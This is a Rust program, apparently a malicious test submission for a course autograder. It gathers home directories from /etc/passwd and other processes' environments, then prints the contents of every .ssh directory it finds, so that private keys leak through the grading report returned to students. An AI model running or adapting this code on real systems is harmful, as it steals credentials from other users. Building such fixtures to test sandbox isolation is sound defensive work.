//! 恶意提交(测试用):找出机器上所有的家目录,读 `.ssh/` 里的文件,打印出来
//! (打印的东西会进评分报告,老师把报告发回给学员,私钥就到了学员手里)。
//! 家目录从三处找:自己的 HOME、/etc/passwd、别的进程的环境变量(老师运行 course 时的 HOME)。
//! 自己的上限:每个文件最多读 64 KiB,一共最多 50 个文件;只读,不写。

use std::collections::BTreeSet;
use std::io::Read;
use std::path::PathBuf;

fn main() {
    let mut homes = BTreeSet::new();
    if let Ok(home) = std::env::var("HOME") {
        homes.insert(PathBuf::from(home));
    }
    if let Ok(passwd) = std::fs::read_to_string("/etc/passwd") {
        for line in passwd.lines() {
            if let Some(home) = line.split(':').nth(5) {
                homes.insert(PathBuf::from(home));
            }
        }
    }
    if let Ok(procs) = std::fs::read_dir("/proc") {
        for entry in procs.flatten().take(5000) {
            if let Ok(env) = std::fs::read(entry.path().join("environ")) {
                for var in env.split(|&b| b == 0) {
                    if let Some(home) = var.strip_prefix(b"HOME=") {
                        homes.insert(PathBuf::from(String::from_utf8_lossy(home).into_owned()));
                    }
                }
            }
        }
    }
    println!("找到的家目录:{homes:?}");
    let mut stolen = 0;
    for home in homes {
        let Ok(files) = std::fs::read_dir(home.join(".ssh")) else {
            continue;
        };
        for file in files.flatten() {
            if stolen >= 50 {
                return;
            }
            let mut text = String::new();
            if let Ok(f) = std::fs::File::open(file.path()) {
                let _ = f.take(64 * 1024).read_to_string(&mut text);
                println!("偷到了 {}:{text}", file.path().display());
                stolen += 1;
            }
        }
    }
}
